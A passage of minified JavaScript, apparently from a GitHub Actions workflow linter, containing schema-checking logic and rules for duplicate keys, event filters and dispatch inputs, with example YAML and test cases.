[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#brandingcolor)`,"allowed-values":["white","yellow","blue","green","orange","red","purple","gray-dark"]},using:{description:"The runtime used to execute the action.","allowed-values":["docker","node12","node16","node20","node24","composite"]},"non-empty-string":{string:{"require-non-empty":!0}}}};var L$={any:{},string:{string:{}},"non-empty-string":{string:{"require-non-empty":!0}},sequence:{sequence:{"item-type":"any"}},mapping:{mapping:{"loose-key-type":"string","loose-value-type":"any"}},null:{null:{}},boolean:{boolean:{}},number:{number:{}}},I$=["types","branches","branches-ignore","tags","tags-ignore","paths","paths-ignore","workflows","names","versions"];function P$(n){let e={...n.definitions},t=e["on-mapping-strict"]?.mapping?.properties??{},s=i=>{let r=`${i}-or-string`;return e[r]??={"one-of":["non-empty-string",i]},r};for(let[i,r]of Object.entries(t)){let o=Wi(r),a=e[o];if(!(!a||i==="schedule")){if(a.null&&!a["one-of"]&&!a.mapping){let c=`${o}-mapping`;e[c]??={mapping:{properties:{}}},e[o]={description:a.description,"one-of":["null",c]};continue}for(let c of a["one-of"]??[]){let l=e[c]?.mapping?.properties;if(!l)continue;let u;for(let p of I$){if(!(p in l))continue;let d=Wi(l[p]),f=e[d];!f?.sequence||f["one-of"]||(u??={...l},u[p]=s(d))}u&&(e[c]={...e[c],mapping:{...e[c].mapping,properties:u}})}}}return{...n,definitions:e}}var Ua=P$(Hw),j$=Yw;function Ya(n,e){return n.definitions[e]??L$[e]??{}}function Wi(n){return typeof n=="string"?n:n.type}var Wp=Object.keys(Ya(Ua,"on-mapping-strict").mapping?.properties??{}),sH=(()=>{let n={},e=Ya(Ua,"permissions-mapping").mapping?.properties??{};for(let[t,s]of Object.entries(e))n[t]=Ha(Ua,Wi(s)).constants;return n})();function Ha(n,e,t=new Set){let s={constants:[],kinds:new Set};if(t.has(e))return s;t.add(e);let i=Ya(n,e);if(i["one-of"])for(let r of i["one-of"]){let o=Ha(n,r,t);s.constants.push(...o.constants);for(let a of o.kinds)s.kinds.add(a)}else i["allowed-values"]?s.constants.push(...i["allowed-values"]):i.string?.constant!==void 0?s.constants.push(i.string.constant):i.string?s.kinds.add(i.string["require-non-empty"]?"non-empty string":"string"):i.boolean?s.kinds.add("boolean"):i.number?s.kinds.add("number"):i.null?s.kinds.add("null"):!i.mapping&&!i.sequence&&s.kinds.add("any");return s}var Z=n=>`"${n}"`,It=n=>n.map(Z).join(", "),q$=n=>typeof n=="string"&&n.includes("${{");function Pt(n){if(n==null)return"null";if(F(n)){let e=n.value;return e==null?"null":typeof e=="number"||typeof e=="bigint"?"number":typeof e=="boolean"?"boolean":"string"}return L(n)?"mapping":G(n)?"sequence":Me(n)?"alias":"other"}function Yi(n){let e=Pt(n);return e==="null"?"null (empty)":e==="mapping"?"a mapping":e==="sequence"?"a sequence":e==="string"?`the string ${Z(String(n.value))}`:`the ${e} ${String(n.value)}`}function pt(n){if(!F(n))return;let e=n.value;return e==null?"":typeof e=="symbol"?"<<":String(e)}function U$(n){let e=n.key;return F(e)&&(typeof e.value=="symbol"||e.value==="<<"&&e.type==="PLAIN")}function cn(n,e){return n==="workflow-root-strict"?"workflow":n==="action-root-strict"?"action metadata":Y$[n]??e.label}function H$(n,e,t){return n==="jobs"?`job ${Z(e)}`:n==="workflow-call-inputs"?`input ${Z(e)} of workflow_call event`:n==="workflow-dispatch-inputs"?`input ${Z(e)} of workflow_dispatch event`:n==="workflow-call-outputs"?`output ${Z(e)} of workflow_call event`:n==="workflow-call-secrets"?`secret ${Z(e)} of workflow_call event`:n==="services"?`service ${Z(e)}`:n==="permissions-mapping"?`permission ${Z(e)}`:n==="on-mapping-strict"?`${Z(e)} event`:n==="inputs-strict"?`input ${Z(e)}`:n==="outputs"?`output ${Z(e)}`:e==="with"&&cn(n,t).startsWith("step")?'"with" section':`${Z(e)} section`}var Es=class{constructor(e,t,s,i,r,o){this.key=e;this.keyName=t;this.parentDef=s;this.event=i;this.fixed=r;this.mapLoc=o}key;keyName;parentDef;event;fixed;mapLoc;get label(){return this.fixed??H$(this.parentDef,this.keyName,this.mapLoc)}},qa={"node-runs-strict":"a JavaScript action","container-runs-strict":"a Docker action","composite-runs-strict":"a composite action"},Y$={"run-step":"step to run shell command","regular-step":"step to execute action","uses-step":"step to execute action","wait-step":"wait step","wait-all-step":"wait-all step","cancel-step":"cancel step","parallel-step":"parallel step"},Ww={branches:["merge_group","push","pull_request","pull_request_target","workflow_run"],"branches-ignore":["merge_group","push","pull_request","pull_request_target","workflow_run"],tags:["push"],"tags-ignore":["push"],paths:["push","pull_request","pull_request_target"],"paths-ignore":["push","pull_request","pull_request_target"],workflows:["workflow_run"]},Bw=new WeakMap,Gw=2e5,Bp=class{constructor(e,t){this.model=e;this.schema=t;let s=Bw.get(t);s||Bw.set(t,s=new Map),this.infos=s}model;schema;diags=[];seenDiag=new Set;aliasStack=[];aliasNodeChecks=0;aliasBudgetReported=!1;path=[];infos;def(e){return this.info(e).def}info(e){let t=this.infos.get(e);if(!t){let s=Ya(this.schema,e),i=s.mapping?.properties??{},r=Object.keys(i);t={def:s,props:i,known:r,types:new Map(r.map(o=>[o,Wi(i[o])])),required:r.filter(o=>typeof i[o]=="object"&&i[o].required),accepts:{}},this.infos.set(e,t)}return t}report(e,t,s,i){let r=i?.range??this.model.rangeOf(t??this.model.doc.contents),o=`${e}:${r.start.line}:${r.start.character}:${s}`;this.seenDiag.has(o)||(this.seenDiag.add(o),this.diags.push({rule:e,message:s,range:r,severity:i?.severity,fixes:i?.fixes}))}deref(e){if(!Me(e))return e;let t=sn(this.model.doc,e);if(t){if(this.aliasStack.includes(t)||this.path.includes(t)){this.report("yaml-anchor",e,`recursive alias "${e.source}": it refers to a node that contains it`);return}return t}}viaAlias=new Map;checkedViaAlias(e,t,s){if(!e||typeof e!="object")return!1;let i=this.viaAlias.get(e);i||this.viaAlias.set(e,i=new Map);let r=i.get(s.key);r||i.set(s.key,r=new Set);let o=`${t}\0${s.keyName}\0${s.label}\0${s.event??""}\0${s.parentDef??""}`;return r.has(o)?!0:(r.add(o),!1)}check(e,t,s){if(Me(e)){if(this.aliasNodeChecks>Gw){this.aliasBudgetReported||(this.aliasBudgetReported=!0,this.report("yaml-anchor",e,`aliases repeat more than ${Gw.toLocaleString("en")} nodes of this file: what they repeat from here on is not checked again`,{severity:"warning"}));return}let r=this.deref(e);if(r===void 0)return;this.aliasStack.push(r);try{this.check(r,t,s)}finally{this.aliasStack.pop()}return}if(this.aliasStack.length&&(this.aliasNodeChecks++,this.checkedViaAlias(e,t,s)))return;let i=this.def(t);if(!(F(e)&&q$(e.value))&&t!=="any"){if(i["one-of"])return this.checkOneOf(e,t,i,s);if(i.mapping)return this.checkMapping(e,t,i,s);if(i.sequence)return this.checkSequence(e,t,i,s);this.checkScalar(e,t,i,s)}}alternatives(e,t){let s=this.info(e);if(s.alts)return s.alts;let i=t["one-of"],r=o=>{let a=this.def(o);return a["one-of"]?"one-of":a.mapping?"mapping":a.sequence?"sequence":a.null?"null":"scalar"};return s.alts={mapping:i.filter(o=>r(o)==="mapping"||r(o)==="one-of"&&this.accepts(o,"mapping")),sequence:i.filter(o=>r(o)==="sequence"||r(o)==="one-of"&&this.accepts(o,"sequence")),scalar:i.filter(o=>r(o)==="scalar"||r(o)==="one-of"&&this.accepts(o,"scalar")),null:i.some(o=>this.accepts(o,"null")),anyMapping:i.some(o=>this.accepts(o,"mapping"))},s.alts}checkOneOf(e,t,s,i){let r=Pt(e),o=this.alternatives(t,s);if(r==="mapping"){let a=o.mapping;if(a.length===1)return this.check(e,a[0],i);if(a.length>1)return this.check(e,this.pickMapping(e,a),i)}else if(r==="sequence"){let a=o.sequence;if(a.length>=1)return this.check(e,a[0],i)}else if(r==="null"){if(o.null)return;let a=o.scalar;return a.length?this.check(e,a[0],i):this.emptySection(e,i,o.anyMapping?"mapping":"sequence")}else{let a=o.scalar;if(a.length){if(this.scalarOk(e,t))return;for(let c of a)if(this.scalarOk(e,c))return;return a.length===1?this.check(e,a[0],i):this.badScalar(e,t,i)}}this.wrongKind(e,t,i)}accepts(e,t,s){if(!s){let r=this.info(e),o=r.accepts[t];return o!==void 0?o:r.accepts[t]=this.accepts(e,t,new Set)}if(s.has(e))return!1;s.add(e);let i=this.def(e);return e==="any"?!0:i["one-of"]?i["one-of"].some(r=>this.accepts(r,t,s)):t==="mapping"?!!i.mapping:t==="sequence"?!!i.sequence:t==="null"?!!i.null||!!i.string&&!i.string["require-non-empty"]&&i.string.constant===void 0:!!(i.string||i.boolean||i.number||i["allowed-values"])}pickMapping(e,t){let s=new Set(e.items.map(c=>pt(c.key)??"")),i=c=>this.info(c).required;if(t.includes("run-step")&&s.has("run")&&s.has("uses")){let c=e.items.map(l=>pt(l.key));return c.lastIndexOf("run")>c.lastIndexOf("uses")?"run-step":"regular-step"}if(t.includes("regular-step")&&s.has("uses"))return"regular-step";if(t.includes("uses-step")&&s.has("uses"))return"uses-step";if(t.includes("workflow-job")&&s.has("uses"))return"workflow-job";let r=pt(e.items.find(c=>pt(c.key)==="using")?.value);if(r!==void 0){if(r==="docker"&&t.includes("container-runs-strict"))return"container-runs-strict";if(r==="composite"&&t.includes("composite-runs-strict"))return"composite-runs-strict";if(/^node/.test(r)&&t.includes("node-runs-strict"))return"node-runs-strict"}for(let c of t){let l=i(c);if(l.length&&l.every(u=>s.has(u)))return c}let o=t[0],a=-1;for(let c of t){let l=this.info(c).props,u=0;for(let p of s)p in l&&u++;u>a&&(o=c,a=u)}return o}scalarSet(e){let t=this.info(e);if(t.scalars)return t.scalars;let s={any:!1,constants:new Set,nonEmpty:!1,boolean:!1,number:!1,null:!1},i=new Set,r=o=>{if(i.has(o))return;let a=this.def(o);if(a["one-of"]&&i.add(o),o==="any")s.any=!0;else if(o==="on-string-strict")for(let c of Wp)s.constants.add(c);else if(a["one-of"])for(let c of a["one-of"])r(c);else if(a["allowed-values"])for(let c of a["allowed-values"])s.constants.add(c);else a.string?a.string.constant!==void 0?s.constants.add(a.string.constant):a.string["require-non-empty"]?s.nonEmpty=!0:s.any=!0:a.boolean?s.boolean=!0:a.number?s.number=!0:a.null&&(s.null=!0)};return r(e),t.scalars=s}scalarOk(e,t){let s=this.scalarSet(t);if(s.any)return!0;let i=Pt(e),r=pt(e)??"";return i==="string"&&s.constants.has(r)||s.nonEmpty&&i!=="null"&&r.trim()!==""||s.boolean&&i==="boolean"||s.number&&(i==="number"||i==="string"&&r.trim()!==""&&!isNaN(Number(r)))?!0:s.null&&i==="null"}emptySection(e,t,s){let i=e??t.key,r=t.keyName==="jobs"&&!t.parentDef?.includes("job")||t.label==="step"?"error":"warning";this.report("value-type",i,`${t.label} should not be empty (expected a ${s}); remove it if it is unnecessary`,{severity:r})}wrongKind(e,t,s){let i=[];if(this.accepts(t,"mapping")&&i.push("a mapping"),this.accepts(t,"sequence")&&i.push("a sequence"),this.accepts(t,"scalar")){let o=Ha(this.schema,t);o.constants.length&&!o.kinds.size?i.push(`one of ${It(o.constants)}`):i.push(...[...o.kinds].map(a=>a==="non-empty string"?"a string":a==="any"?"a value":`a ${a}`))}let r=e??s.key;if(Pt(e)==="null"&&!this.accepts(t,"scalar"))return this.emptySection(e,s,i[0]==="a sequence"?"sequence":"mapping");this.report("value-type",r,`${s.label} must be ${[...new Set(i)].join(" or ")||"something else"}, but it is ${Yi(e)}`)}badScalar(e,t,s){let i=Ha(this.schema,t),r=pt(e)??"";if(t==="on-string-strict")return this.unknownEvent(e,r);if(s.parentDef==="permissions-mapping"||t==="permissions")return this.badPermission(e,r,s,i.constants);if(/-activity(-type)?$/.test(t))return this.badActivity(e,r,s,i.constants);if(Pt(e)==="null"||r.trim()===""&&i.kinds.has("non-empty string")&&i.constants.length===0)return this.report("value-type",e??s.key,`${s.label} should not be an empty string`);let o=[];i.constants.length&&o.push(`one of ${It(i.constants)}`);for(let c of i.kinds)o.push(c==="non-empty string"?"a non-empty string":`a ${c}`);this.accepts(t,"mapping")&&o.push("a mapping"),this.accepts(t,"sequence")&&o.push("a sequence");let a=i.constants.length?ae(r,t==="using"?i.constants.filter(c=>!/^node1[26]$/.test(c)):i.constants):void 0;this.report("value-type",e,`${s.label} must be ${o.join(" or ")}, but it is ${Yi(e)}`+(a?`. Did you mean ${Z(a)}?`:""),{fixes:a?[this.replaceFix(e,a)]:void 0})}replaceFix(e,t){return{title:`Change to "${t}"`,preferred:!0,edits:[{range:this.model.rangeOf(e),newText:t}]}}unknownEvent(e,t){let i=Wp.find(r=>r.toLowerCase()===t.toLowerCase())??ae(t,Wp);this.report("unknown-event",e,`unknown Webhook event ${Z(t)}`+(i?`. Did you mean ${Z(i)}?`:"; see https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows for the list of events"),{fixes:i?[this.replaceFix(e,i)]:void 0})}badPermission(e,t,s,i){if(s.parentDef==="permissions-mapping"){let r=i.find(o=>o===t.toLowerCase())??ae(t,i);this.report("permissions",e,`${Z(t)} is invalid as permission of scope ${Z(s.keyName)}. available values are ${It(i)}`,{fixes:r?[this.replaceFix(e,r)]:void 0})}else{let r=["read-all","write-all"].find(o=>o===t.toLowerCase())??ae(t,["read-all","write-all"]);this.report("permissions",e,`${Z(t)} is invalid for permission for all the scopes. available values are "read-all", "write-all" or {}`,{fixes:r?[this.replaceFix(e,r)]:void 0})}}badActivity(e,t,s,i){let r=ae(t,i);this.report("event-filter",e,`invalid activity type ${Z(t)} for ${Z(s.event??"?")} Webhook event. available types are ${It(i)}`,{fixes:r?[this.replaceFix(e,r)]:void 0})}checkScalar(e,t,s,i){let r=Pt(e);if(r==="mapping"||r==="sequence")return t==="on-string-strict"&&r==="mapping"?void 0:this.report("value-type",e,`${i.label} must be ${this.scalarWord(s)}, but it is ${Yi(e)}`);if(this.scalarOk(e,t)){this.checkRange(e,i);return}r==="null"&&!s.string?.["require-non-empty"]&&s.string?.constant===void 0&&!s["allowed-values"]&&!s.boolean&&!s.number&&!s.string||this.badScalar(e,t,i)}scalarWord(e){return e.boolean?"a boolean":e.number?"a number":e["allowed-values"]?`one of ${It(e["allowed-values"])}`:e.string?.constant!==void 0?Z(e.string.constant):"a string"}checkRange(e,t){if((t.keyName==="timeout-minutes"||t.keyName==="max-parallel")&&Pt(e)!=="string"){let s=Number(e.value);!isNaN(s)&&s<=0?this.report("value-type",e,`value at ${Z(t.keyName)} must be greater than zero: ${s}`):t.keyName==="max-parallel"&&!Number.isInteger(s)&&this.report("value-type",e,`value at "max-parallel" must be an integer: ${s}`)}}checkSequence(e,t,s,i){let r=Pt(e);if(r==="null")return this.emptySection(e,i,"sequence");if(r!=="sequence")return t==="on-sequence-strict"?void 0:this.report("value-type",e,`${i.label} must be a sequence, but it is ${Yi(e)}`);let o=e;this.path.push(o);try{this.checkItems(o,t,s,i)}finally{this.path.pop()}}checkItems(e,t,s,i){e.items.length===0&&i.keyName!=="args"&&this.report("value-type",e,`${i.label} should not be empty`,{severity:"warning"});let r=s.sequence["item-type"],o=i.keyName==="steps"?"step":`element of ${i.label}`,a=new Es(void 0,i.keyName,t,i.event,o,void 0);for(let c of e.items)this.check(c,r,a)}checkMapping(e,t,s,i){let r=Pt(e);if(r!=="mapping")return r==="null"?this.emptySection(e,i,"mapping"):this.report("value-type",e,`${i.label} must be a mapping, but it is ${Yi(e)}`);let o=e;this.path.push(o);try{this.checkPairs(o,t,s,i)}finally{this.path.pop()}}checkPairs(e,t,s,i){let r=this.info(t),o=r.props,a=s.mapping["loose-key-type"],c=s.mapping["loose-value-type"],l=[],u=[],p,d=[],f=r.known,h=new Es(void 0,"",t,void 0,void 0,i),m=(g,w)=>(h.key=w??void 0,h.keyName=g,h.event=t==="on-mapping-strict"?g:i.event,h);for(let g of e.items){if(!Ae(g))continue;if(U$(g)){this.report("yaml-anchor",g.key,'GitHub Actions does not support the YAML merge key "<<"; write the keys out (or use an anchor for the whole value)');continue}let w=g.key,v=pt(w);if(v===void 0)continue;r.required.length&&d.push(v);let O=v.toLowerCase(),S=p?p.get(O)??-1:l.indexOf(O),A=S>=0?u[S]:void 0;if(A){let _=this.model.keyRange(A),q=pt(A.key)!==v||!!a;this.report("duplicate-key",w,`key ${Z(v)} is duplicated in ${cn(t,i)}. previously defined at line:${_.start.line+1},col:${_.start.character+1}`+(q?". note that this key is case insensitive":""))}else p?p.set(O,l.length):l.length===16&&(p=new Map(l.map((_,q)=>[_,q])).set(O,16)),l.push(O),u.push(g);let C=g.value,E=r.types.get(v);if(E!==void 0||v in Object.prototype){let _=E??Wi(o[v]);this.check(C,_,m(v,w));continue}if(a){a!=="string"&&a!=="any"&&this.check(w,a,new Es(w??void 0,v,i.parentDef,i.event,`key of ${cn(t,i)}`,void 0)),c&&this.check(C,c,m(v,w));continue}this.unknownKey(e,g,v,t,f,new Map(l.map((_,q)=>[_,u[q]])),cn(t,i),i)}for(let g of r.required)d.includes(g)||l.includes(g)||this.missing(e,g,t,cn(t,i),i);this.afterMapping(e,t,i)}unknownKey(e,t,s,i,r,o,a,c){let l=t.key,u=this.model.keyRange(t);if(i==="on-mapping-strict")return this.unknownEvent(l,s);if(i==="permissions-mapping"){let w=r.find(v=>v===s.toLowerCase())??ae(s,r);return this.report("permissions",l,`unknown permission scope ${Z(s)}. all available permission scopes are ${It(r)}`+(w?`. Did you mean ${Z(w)}?`:""),{fixes:w?[{title:`Change to "${w}"`,preferred:!0,edits:[{range:u,newText:w}]}]:void 0})}if(c.event&&Ww[s]&&i.endsWith("-mapping")&&!r.includes(s)){let w=Ww[s];return this.report("event-filter",l,`${Z(s)} filter is not available for ${c.event} event. it is only for ${w.join(", ")} event${w.length>1?"s":""}`)}if(c.event&&s==="types"&&i.endsWith("-mapping")&&!r.includes(s))return this.report("event-filter",l,`${c.event} event does not have activity types; remove "types"`);let p=r.find(w=>w.toLowerCase()===s.toLowerCase()),d=r.filter(w=>!o.has(w.toLowerCase())||w.toLowerCase()===s.toLowerCase()),f=p??ae(s,d),h="";if(i==="run-step"&&["with","uses"].includes(s))h='; "with" and "uses" are for steps that run an action';else if(i==="regular-step"&&["run","shell","working-directory"].includes(s))h=`; ${Z(s)} is only for steps that run a script with "run"`;else if(qa[i]&&!p){let w=Object.keys(qa).find(O=>O!==i&&s in(this.def(O).mapping?.properties??{})),v=pt(e.items.find(O=>Ae(O)&&pt(O.key)==="using")?.value);w&&v&&(h=`; ${Z(s)} belongs to ${qa[w]}, but "using: ${v}" makes this ${qa[i]}. expected one of ${It(r)}`)}else i==="workflow-job"&&s in(this.def("job-factory").mapping?.properties??{})?h=`; when a reusable workflow is called with "uses", ${Z(s)} is not available. only ${It(r)} are allowed`:i==="job-factory"&&s in(this.def("workflow-job").mapping?.properties??{})&&(h=`; ${Z(s)} is only available for a reusable workflow call with "uses" but "uses" is not found in ${a}`);let m=p?`unexpected key ${Z(s)} for ${a}. keys are case-sensitive: did you mean ${Z(p)}?`:`unexpected key ${Z(s)} for ${a}${h||`. expected one of ${It(r)}`}`+(f&&!h?`. Did you mean ${Z(f)}?`:""),g=!!f&&e.items.some(w=>w!==t&&Ae(w)&&pt(w.key)?.toLowerCase()===f.toLowerCase());this.report("unknown-key",l,m,{fixes:f&&!h&&!g?[{title:`Change to "${f}"`,preferred:!0,edits:[{range:u,newText:f}]}]:void 0})}missing(e,t,s,i,r){let o=r.key??e.items[0]?.key??e;if(s==="workflow-root-strict")return this.report("missing-key",e.items[0]?.key??e,`${Z(t)} section is missing in workflow`);if((s==="run-step"||s==="regular-step")&&(t==="run"||t==="uses"))return this.report("missing-key",e,'step must run a script with "run" or run an action with "uses"');this.report("missing-key",o,`${Z(t)} is missing in ${i}`,{fixes:this.addKeyFix(e,t,s)})}addKeyFix(e,t,s){let r={"runs-on":"ubuntu-latest",shell:"bash",group:"${{ github.workflow }}-${{ github.ref }}"}[t];t==="type"&&s.includes("input")&&(r="string");let o=e.items[0]?.key;if(r===void 0||e.flow||!o?.range)return;let a=this.model.rangeOf(o).start;return[{title:`Add "${t}: ${r}"`,preferred:!0,edits:[{range:{start:a,end:a},newText:`${t}: ${r}
${" ".repeat(a.character)}`}]}]}afterMapping(e,t,s){let i=r=>e.items.find(o=>pt(o.key)===r);if(t==="container-registry-credentials"){let r=i("username"),o=i("password");!!r!=!!o&&this.report("missing-key",s.key??e,'both "username" and "password" must be specified in "credentials" section')}(t==="container-mapping"||t==="service-container-mapping")&&(i("image")||this.report("missing-key",s.key??e,`"image" is missing in ${cn(t,s)}`)),t==="job-factory"&&!i("steps")&&this.report("missing-key",s.key??e,`"steps" section is missing in ${cn(t,s)}`),(t==="workflow-defaults"||t==="job-defaults")&&e.items.length===0&&this.report("value-type",e,'"defaults" section should have a "run" section',{severity:"warning"}),e.items.length===0&&["regular-step","run-step","container-mapping","container-registry-credentials","step-with","workflow-defaults-run","job-defaults-run"].includes(t)&&(t.endsWith("step")||this.report("value-type",e,`${cn(t,s)} should not be empty; remove it if it is unnecessary`,{severity:"warning"}))}};function W$(n){return n.memoize("wfs:schema",()=>{if(n.errors.length)return[];let e=new Bp(n,n.kind==="action"?j$:Ua),t=n.doc.contents;if(t===null||F(t)&&(t.value===null||t.value===""))return e.report("missing-key",null,n.kind==="action"?"action metadata is empty":"workflow is empty"),e.diags;let s=n.kind==="action"?"action-root-strict":"workflow-root-strict";return e.check(t,s,new Es(void 0,"",void 0,void 0,n.kind==="action"?"action metadata":"workflow",void 0)),e.diags})}function Pe(n,e){for(let t of W$(n.model))t.rule===e&&n.report({message:t.message,range:t.range,severity:t.severity,fixes:t.fixes})}var B$={id:"duplicate-key",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"A key is written twice in the same mapping. GitHub compares keys without regard to case, so `FOO` and `foo` in `env:`, two jobs `Build` and `build`, or two inputs differing in case are duplicates too.",why:"GitHub rejects the workflow; other YAML tools silently keep the last value, so the mistake is easy to miss when copying jobs or steps around.",bad:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
  test:
    runs-on: windows-latest
    steps:
      - run: make test
`,good:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
  test-windows:
    runs-on: windows-latest
    steps:
      - run: make test
`},check(n){Pe(n,"duplicate-key")},tests:[{name:"duplicated key in a job",input:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    runs-on: macos-latest
    steps:
      - run: echo
`,expect:[{line:5,col:5,message:'key "runs-on" is duplicated in job "test". previously defined at line:4,col:5'}]},{name:"case-insensitive env, inputs, matrix, with and job ids",input:`on:
  workflow_dispatch:
    inputs:
      foo:
        type: string
      FOO:
        type: string
env:
  A: 1
  a: 2
jobs:
  b:
    runs-on: ubuntu-latest
    strategy:
      matrix:
        x: [1]
        X: [2]
    steps:
      - uses: actions/checkout@v4
        with:
          ref: a
          REF: b
  B:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:6,col:7,message:"note that this key is case insensitive"},{line:10,col:3,message:'key "a" is duplicated in "env" section'},{line:17,col:9,message:'key "X" is duplicated in "matrix" section'},{line:22,col:11,message:'key "REF" is duplicated in "with" section'},{line:23,col:3,message:'key "B" is duplicated in "jobs" section'}]},{name:"same names in different mappings",input:`on: push
env:
  A: 1
jobs:
  a:
    runs-on: ubuntu-latest
    env:
      A: 2
    steps:
      - run: echo
        env:
          A: 3
`,expect:[]}]},Vw=B$;var G$=[["branches","branches-ignore"],["tags","tags-ignore"],["paths","paths-ignore"]],V$={id:"event-filter",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"Event filters GitHub rejects: an activity type the event does not have, a filter the event does not take (`paths` on `merge_group`, `tags` on `pull_request`), or a filter together with its `-ignore` twin.",why:"GitHub rejects the workflow, or the trigger never matches what you meant. To exclude some branches from a `branches` list, negate them with `!` in the same list.",bad:`on:
  pull_request:
    types: [open]
    branches: [main]
    branches-ignore: [wip/**]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`,good:`on:
  pull_request:
    types: [opened]
    branches: [main, '!wip/**']
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`},check(n){Pe(n,"event-filter");let{model:e}=n;for(let t of K(e).events){if(!L(t.config))continue;let s=Y(e,t.config);for(let[i,r]of G$){let o=s.get(i),a=s.get(r);if(!o||!a)continue;let c=o.key.range[0]>a.key.range[0]?o:a;n.report({message:`both ${JSON.stringify(i)} and ${JSON.stringify(r)} filters cannot be used for the same event ${JSON.stringify(t.name)}. note: use '!' to negate patterns`,range:e.keyRange(c)})}}},tests:[{name:"activity types",input:`on:
  pull_request:
    types: [opened, created]
  merge_group:
    types: opened
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:21,message:'invalid activity type "created" for "pull_request" Webhook event. available types are'},{line:5,col:12,message:'available types are "checks_requested"'}]},{name:"filters not available for the event",input:`on:
  merge_group:
    paths: [a]
  pull_request:
    tags: [v1]
  pull_request_review:
    branches: [main]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:5,message:'"paths" filter is not available for merge_group event. it is only for push, pull_request, pull_request_target events'},{line:5,col:5,message:'"tags" filter is not available for pull_request event. it is only for push event'},{line:7,col:5,message:'"branches" filter is not available for pull_request_review event'}]},{name:"exclusive filters",input:`on:
  push:
    branches: [main]
    tags: [v1]
    branches-ignore: [x]
    paths-ignore: [docs/**]
    paths: [src/**]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:5,col:5,message:'both "branches" and "branches-ignore" filters cannot be used for the same event "push"'},{line:7,col:5,message:'both "paths" and "paths-ignore"'}]},{name:"an event without filters given as a mapping",input:`on:
  status:
    types: [x]
  fork: {branches: main}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,col:5,message:'status event does not have activity types; remove "types"'},{line:4,col:10,message:'"branches" filter is not available for fork event'}]},{name:"valid filters",input:`on:
  push:
    branches: [main, '!wip/**']
    tags: [v*]
    paths-ignore: [docs/**]
  pull_request:
    types: [opened, synchronize, ready_for_review]
    branches-ignore: [gh-pages]
  workflow_run:
    workflows: [CI]
    types: [completed]
    branches: [main]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[]}]},zw=V$;var Kw=25;function z$(n){return n.trim()!==""&&!isNaN(Number(n))}var K$={id:"event-inputs",language:"workflow",severity:"error",compat:{actionlint:"events"},docs:{summary:"Inputs of `workflow_dispatch` and `workflow_call` that GitHub rejects or that cannot work: a `choice` without options, a default that is not one of the options or not of the input's type, `options` on a non-choice input, duplicate options, more than 25 dispatch inputs, and a required input with a default (a warning: the default is never used).",why:'GitHub rejects the workflow or the "Run workflow" form, and a default of the wrong type fails every run that relies on it.',bad:`on:
  workflow_dispatch:
    inputs:
      env:
        type: choice
        options: [staging, production]
        default: prod
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh "\${{ inputs.env }}"
`,good:`on:
  workflow_dispatch:
    inputs:
      env:
        type: choice
        options: [staging, production]
        default: production
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh "\${{ inputs.env }}"
`},check({model:n,report:e}){for(let t of K(n).events){if(t.name!=="workflow_dispatch"&&t.name!=="workflow_call"||!L(t.config))continue;let s=Y(n,t.config).get("inputs"),i=de(n,s);if(!i)continue;let r=t.name==="workflow_dispatch";r&&i.items.length>Kw&&e({message:`maximum number of inputs for "workflow_dispatch" event is ${Kw} but ${i.items.length} inputs are provided. see https://docs.github.com/en/actions/reference/workflows-and-actions/events-that-trigger-workflows#providing-inputs`,range:n.rangeOf(t.node)});for(let o of i.items){let a=P(o.key),c=T(n,o.value);if(a===void 0||!L(c))continue;let l=Y(n,c),u=T(n,l.get("type")?.value),p=P(u)??(r?"string":void 0),d=l.get("default"),f=T(n,d?.value),h=F(f)?P(f):void 0,m=h?.includes("${{"),g=r?`input ${JSON.stringify(a)} of workflow_dispatch event`:`input ${JSON.stringify(a)} of workflow_call event`,w=n.keyRange(o);if(r){let O=l.get("options"),S=T(n,O?.value);if(p==="choice")if(!G(S)||S.items.length===0)e({message:`input type of ${JSON.stringify(a)} is "choice" but "options" is not set`,range:w});else{let A=new Map,C=[];for(let E of S.items){let _=T(n,E),q=P(_);q!==void 0&&(C.push(q),A.has(q)?e({message:`option ${JSON.stringify(q)} is duplicated in options of ${JSON.stringify(a)} input`,range:n.rangeOf(_)}):A.set(q,_))}h!==void 0&&!m&&f&&F(f)&&f.value!==null&&!C.includes(h)&&e({message:`default value ${JSON.stringify(h)} of ${JSON.stringify(a)} input is not included in its options ${C.map(E=>JSON.stringify(E)).join(", ")}`,range:n.rangeOf(f)})}else O&&e({message:`"options" can not be set to ${JSON.stringify(a)} input because its input type is not "choice"`,range:w})}if(f&&F(f)&&f.value!==null&&!m&&h!==void 0){let O=n.rangeOf(f);p==="boolean"&&typeof f.value!="boolean"&&!/^(true|false)$/.test(h)&&e({message:`${g} is typed as boolean. its default value must be true or false but got ${JSON.stringify(h)}`,range:O}),p==="number"&&typeof f.value!="number"&&!z$(h)&&e({message:`${g} is typed as number but its default value ${JSON.stringify(h)} cannot be parsed as a number`,range:O})}let v=T(n,l.get("required")?.value);!r&&F(v)&&v.value===!0&&f&&F(f)&&f.value!==null&&e({message:`${g} has the default value ${JSON.stringify(h??"")}, but it is also required. if an input is marked as required, its default value will never be used`,range:n.rangeOf(f),severity:"warning"})}}},tests:[{name:"choice inputs",input:`on:
  workflow_dispatch:
    inputs:
      a:
        type: choice
      b:
        type: choice
        options: [x, y, x]
        default: z
      c:
        type: boolean
        options: [x]
